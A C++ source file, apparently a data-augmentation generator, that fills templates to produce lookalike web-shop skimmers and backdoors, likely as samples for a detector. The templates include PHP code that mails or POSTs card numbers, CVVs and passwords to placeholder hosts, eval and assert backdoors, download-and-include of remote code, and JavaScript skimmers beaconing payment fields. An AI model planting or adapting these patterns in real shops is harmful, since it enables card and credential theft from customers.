
#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"

// Thieves of a shop's card data and passwords, written as the code around them is: nothing in them
// is encoded, and what gives them away is where they send what.
namespace fovea::augment {
namespace {

const Makers& ThiefMakers() {
  static const Makers makers = {
      {"nl",
       [](Junk& j) {
         return j.Pick({"\n", "\n    ", "\r\n\t\t", " ", "\n\n    "});
       }},
      {"server",
       [](Junk& j) {
         return "$_SERVER['" +
                j.Pick(
                    {"HTTP_HOST", "SERVER_NAME", "REMOTE_ADDR", "REQUEST_URI", "HTTP_USER_AGENT"}) +
                "']";
       }},
      {"page",
       [](Junk& j) {
         return j.Pick({"onepage|admin", "checkout|admin|login", "checkout/",
                        "saveorder|savepayment", "payment", "account/login", "customer"});
       }},
      {"card",
       [](Junk& j) {
         return j.Pick({"cc_number", "cc_cid", "cc_exp_month", "cc_exp_year", "cc_owner", "cvv",
                        "cardnumber", "firstname", "lastname", "telephone", "login", "username",
                        "password", "email"});
       }},
      {"get",
       [](Junk& j) {
         return j.Pick({"getCcNumber()", "getCcOwner()", "getCcExpMonth()", "getCcExpYear()",
                        "getCcCid()", "getFirstname()", "getTelephone()", "getEmail()",
                        "getStreet(1)", "getPostcode()", "getCountry()", "getPassword()"});
       }},
      {"post",
       [](Junk& j) {
         return j.Pick({"$_POST", "$_REQUEST", "$_COOKIE", "$_SESSION",
                        "$this->getRequest()->getPost()", "$_POST['payment']", "$_POST['billing']",
                        "$_POST['login']"});
       }},
      {"sel",
       [](Junk& j) {
         return j.Pick(
             {"button", "#place_order", ".btn-checkout", "form", "[type=submit]", "a.button"});
       }},
      {"box",
       [](Junk& j) {
         return j.Word() + j.Pick({"", "1", "77", ".log"}) + "@" + j.Host();
       }},
      {"image", [](Junk& j) {
         return j.Path(j.Pick({".jpg", ".png", ".gif", ".js", ".css", ".txt", ".log", ".dat"}));
       }}};
  return makers;
}

constexpr const char* kThefts[] = {
    "mail('~box~', \"~word~ \".~server~, \"~word~ : \".$~0~.\"\\n~word~ : "
    "\".$~1~.\"\\n\".~server~);",
    "@mail(\"~box~\",\"~word~ from \".~server~,\"~word~: \".$~0~.\" ~word~: \".$~1~,\"From: "
    "~box~\");",
    "$~0~ = \"~box~\";~nl~$~1~ = \"~word~ \".~server~;~nl~$~2~ = \"\";~nl~$~2~ .= \"~word~: "
    "\".$~3~->~get~.\"\\n\";~nl~$~2~ .= \"~word~: \".$~3~->~get~.\"\\n\";~nl~$~2~ .= "
    "$~3~->~get~;~nl~mail($~0~, $~1~, $~2~);",
    "$this->send~Word0~();~nl~}~nl~function send~Word0~()~nl~{~nl~$~0~ = "
    "$this->getInfoInstance();~nl~$~1~ = $~0~->~get~ . '|' . $~0~->~get~ . '|' . $~0~->~get~;~nl~"
    "$~2~ = curl_init();~nl~curl_setopt($~2~, CURLOPT_URL, '~url~');~nl~curl_setopt($~2~, "
    "CURLOPT_POST, 1);~nl~curl_setopt($~2~, CURLOPT_POSTFIELDS, '~key~=' . "
    "base64_encode($~1~));~nl~curl_exec($~2~);~nl~curl_close($~2~);",
    "$~0~ = array('~Word~' => ~post~['~card~'], '~Word~' => ~post~['~card~'], '~Word~' => "
    "$this->getQuote()->getBillingAddress()->~get~, '~Word~' => ~server~);~nl~$~1~ = '';~nl~"
    "foreach ($~0~ as $~2~ => $~3~) { $~1~ .= $~2~ . ': ' . $~3~ . \"\\n\"; }~nl~"
    "@mail('~box~', '~word~', $~1~);",
    "if(preg_match(\"/~page~/\", $_SERVER['REQUEST_URI'])){ @file_put_contents('~image~', "
    "@base64_encode(serialize(~post~).\"--\".serialize($_COOKIE)).\"\\n\", FILE_APPEND); }",
    "if (preg_match('/~page~/', $_SERVER['REQUEST_URI'])) {~nl~if ($_SERVER['REQUEST_METHOD'] == "
    "'POST') {~nl~$~0~ = ~post~;~nl~$~1~ = fopen('~image~', 'a');~nl~fwrite($~1~, "
    "base64_encode(serialize($~0~)) . \"\\n\");~nl~fclose($~1~);~nl~}~nl~}",
    "if (~post~['~card0~']) {~nl~$~0~ = '~card~=' . ~post~['~card~'] . '&~card~=' . "
    "~post~['~card~'];~nl~@file_get_contents('~url~?' . $~0~);~nl~}",
    "$~0~ = curl_init('~url~');~nl~curl_setopt($~0~, CURLOPT_POST, true);~nl~curl_setopt($~0~, "
    "CURLOPT_POSTFIELDS, http_build_query(array('~key~' => serialize(~post~), '~key~' => "
    "~server~)));~nl~curl_setopt($~0~, CURLOPT_RETURNTRANSFER, true);~nl~@curl_exec($~0~);",
    "$~0~ = $this->getRequest()->getPost('~word~');~nl~if (isset($~0~['~card~'])) "
    "{~nl~$~1~ = implode('|', $~0~) . '|' . ~server~;~nl~$~2~ = '~image~';~nl~"
    "$~3~ = @file_get_contents($~2~);~nl~@file_put_contents($~2~, $~3~ . base64_encode($~1~) . "
    "\"\\n\");~nl~}",
    "class ~Word~_~Word~_~letters~~nl~{~nl~public function __construct() {~nl~$~0~ = "
    "@$_COOKIE['~letters0~'];~nl~if ($~0~) {~nl~$~1~ = $~0~(@$_COOKIE['~letters~']);~nl~$~2~ = "
    "$~0~(@$_COOKIE['~letters~']);~nl~$~1~(\"/~num~/e\",$~2~,~num~);~nl~} else {~nl~"
    "header(\"HTTP/1.0 404 Not Found\");~nl~}~nl~}~nl~}~nl~$~3~ = new ~Word~_~letters~;",
    "include '../../../../app/~Word~.php'; ~Word~::app(); "
    "var_dump(~Word~::getModel('sales/order')"
    "->getCollection()->addFieldToFilter('~card~', array('neq' => ''))->getData());",
    "error_reporting(0);assert(stripslashes($_REQUEST[~letters~]));error_reporting(E_ALL);",
    "$~0~ = @base64_decode('~b64~');~nl~@eval( $~0~ );",
    "$~0~ = \"~letters~\"; $~1~ = strtoupper($~0~[3].$~0~[1].$~0~[0].$~0~[4].$~0~[2]); if "
    "(isset(${$~1~}['~hexs0~'])) { eval(${$~1~}['~hexs0~']); }",
    "$~0~ = file_get_contents(\"~url.txt~\"); $~1~ = fopen(\"~word0~.php\", \"w+\"); "
    "fwrite($~1~, "
    "$~0~); fclose($~1~); @include(\"~word0~.php\");",
    "$~0~->setData('~word~', ~post~);~nl~@file_put_contents( $~1~, 'JPEG-1.1' . base64_encode( "
    "$~2~ ), FILE_APPEND );"};

// The same in a shop's pages: form fields that are read and sent elsewhere.
constexpr const char* kScriptThefts[] = {
    "var ~0~=false;setInterval(function(){if((!~0~)&&(~1~=document.getElementsByName('payment["
    "~card~]')).length){~2~=~1~[0].value;if(~2~.length>~small~){~0~=true;var ~3~=new "
    "Image();~3~.src='~url~?~key~='+btoa(~2~);}}},~num~);",
    "jQuery(function(~0~){~0~(\"~sel~\").on(\"click\",function(){~1~=\"~key~=\"+window.location."
    "href;~1~.match(/~page~/gi)&&(~0~(\"input,select,textarea\").each(function(){~1~+=\"&\"+this."
    "name+\"=\"+this.value}),~0~.ajax({type:\"POST\",url:\"~url~\",data:~1~}))})});",
    "if((new RegExp('~page~')).test(window.location)) { ~nl~var ~0~ = "
    "document.createElement('script'); ~nl~~0~.src = '~url.js~'; ~nl~"
    "document.getElementsByTagName('head')[0].appendChild(~0~);~nl~}",
    "(function(){var ~0~=jQuery('form:has([name^=~word~])');~0~.change(function(){localStorage."
    "setItem('__~word0~',[this.id,jQuery(this).serialize()])});setInterval(function(){var "
    "~1~=localStorage.getItem('__~word0~');if(~1~){(new Image()).src='~url~?'+btoa(~1~);}},~num~)"
    "})();"};

}  // namespace

std::string ThiefLookalike(Junk& junk) { return FillAny(kThefts, ThiefMakers(), junk); }
std::string ScriptThiefLookalike(Junk& junk) { return FillAny(kScriptThefts, ThiefMakers(), junk); }

}  // namespace fovea::augment
